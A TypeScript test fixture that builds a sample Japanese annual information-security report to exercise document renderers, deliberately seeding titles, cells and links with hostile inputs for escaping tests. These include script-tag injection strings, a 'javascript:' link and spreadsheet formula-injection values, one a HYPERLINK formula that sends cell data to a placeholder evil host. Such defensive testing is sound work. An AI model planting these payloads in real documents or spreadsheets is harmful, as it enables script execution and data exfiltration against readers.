// A ReportDoc for the renderers' tests: nested sections, tables of rates, counts and links, charts,
// Japanese multi-line narratives with HTML metacharacters, and a capability not in use.
import type { ReportDoc, Section } from '../doc-model.js';

export const BASE_URL = 'https://mamoru.example.go.jp/';
export const EVIL = '<script>alert("x")</script> & \'q\'';
export const NARRATIVE = `本年度は自己点検の実施率が向上した。\n<script>alert(1)</script> & "引用" は文字のまま。\n\n  字下げした行\n最終行`;
export const FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"詳細")';
export const STAFF_LINK = '/selfcheck/campaigns/c1/results?group=staff&area=all';

export function fixtureDoc(over: Partial<ReportDoc> = {}): ReportDoc {
  return {
    kind: 'annual',
    title: `情報セキュリティ対策の実施状況 ${EVIL}`,
    subtitle: '年次報告書',
    tenantCode: 'meti',
    tenantName: '経済産業省 & "本省"',
    fiscalYear: 2026,
    locale: 'ja',
    status: 'draft',
    generatedAt: '2027-03-31T15:30:00Z',
    baseUrl: BASE_URL,
    sections: fixtureSections(),
    ...over,
  };
}

function fixtureSections(): Section[] {
  return [
    {
      key: 'summary',
      number: '1',
      title: `評価及び目標 ${EVIL}`,
      blocks: [
        {
          kind: 'narrative',
          key: 'evaluation',
          title: '評価 <b>',
          text: NARRATIVE,
          version: 3,
          author: '山田 & 田中',
          updatedAt: '2027-03-01T01:00:00Z',
        },
        { kind: 'narrative', key: 'goals', title: '次年度の目標', text: '', version: null },
      ],
    },
    {
      key: 'basics',
      number: '2',
      title: '基本情報',
      blocks: [
        {
          kind: 'facts',
          items: [
            { label: '定員数', value: 8123, format: 'count' },
            { label: 'IT予算', value: 1234567890, format: 'yen' },
            { label: '基準日', value: '2026-04-01', format: 'date' },
            { label: '未入力', value: null },
          ],
        },
        { kind: 'paragraph', text: '一行目\n二行目 <i>&</i>' },
      ],
    },
    {
      key: 'framework',
      number: '3',
      title: '情報セキュリティ対策の推進体制',
      blocks: [],
      children: [
        {
          key: 'framework.audit',
          number: '3 (1)',
          title: '監査',
          blocks: [
            {
              kind: 'table',
              id: 'framework.audit/findings:[all]*?-with-a-very-long-identifier',
              title: '監査の指摘',
              columns: [
                { key: 'title', label: '指摘' },
                { key: 'count', label: '件数', format: 'count' },
              ],
              rows: [
                [FORMULA, 3],
                ['+81 3 1234', 12345],
                ['@SUM(A1)', { value: 7, link: 'javascript:alert(1)' }],
                [EVIL, null],
              ],
              note: '注: <注記> & "引用"',
            },
          ],
        },
        {
          key: 'framework.ledger',
          number: '3 (2)',
          title: '台帳',
          blocks: [{ kind: 'paragraph', text: '台帳の概要' }],
          children: [
            {
              key: 'framework.ledger.eos',
              number: '3 (2) ①',
              title: 'サポート終了',
              blocks: [
                {
                  kind: 'table',
                  id: 'framework.audit/findings:[all]*?-with-a-very-long-identifier-2',
                  title: '同じ先頭の表',
                  columns: [{ key: 'n', label: '件数', format: 'count' }],
                  rows: [[4]],
                },
              ],
            },
          ],
        },
      ],
    },
    {
      key: 'selfcheck',
      number: '4',
      title: '自己点検',
      blocks: [
        {
          kind: 'table',
          id: 'selfcheck.groups',
          title: 'グループ別 把握率・実施率',
          columns: [
            { key: 'group', label: 'グループ' },
            { key: 'coverage', label: '把握率', format: 'rate' },
            { key: 'implementation', label: '実施率', format: 'rate' },
            { key: 'inScope', label: '対象者数', format: 'count' },
          ],
          rows: [
            [
              '一般職員',
              { value: 0.8523, link: STAFF_LINK },
              { value: 0.9, link: STAFF_LINK },
              { value: 12345, link: STAFF_LINK },
            ],
            ['幹部 <script>', { value: null, link: '/selfcheck/campaigns/c1/results?group=managers' }, 1, 40],
          ],
        },
        {
          kind: 'chart',
          id: 'selfcheck.groups.chart',
          title: 'グループ別 実施率 <chart>',
          type: 'bar',
          unit: 'rate',
          categories: ['幹部<script>', '職員 & "一般"', 'システム'],
          series: [{ name: '実施率 <i>', values: [0.5, 0.855, null] }],
        },
        {
          kind: 'chart',
          id: 'selfcheck.trend',
          title: '3年間の推移',
          type: 'line',
          unit: 'count',
          categories: ['2024年度', '2025年度', '2026年度'],
          series: [
            { name: '実施件数', values: [10, 20, 30] },
            { name: '未実施 <u>', values: [5, 3, 1] },
          ],
        },
      ],
    },
    {
      key: 'inspection',
      number: '5',
      title: '重点検査',
      blocks: [
        { kind: 'not_in_use', capability: 'inspections', text: '本年度は重点検査を実施していない <理由>。' },
      ],
    },
  ];
}
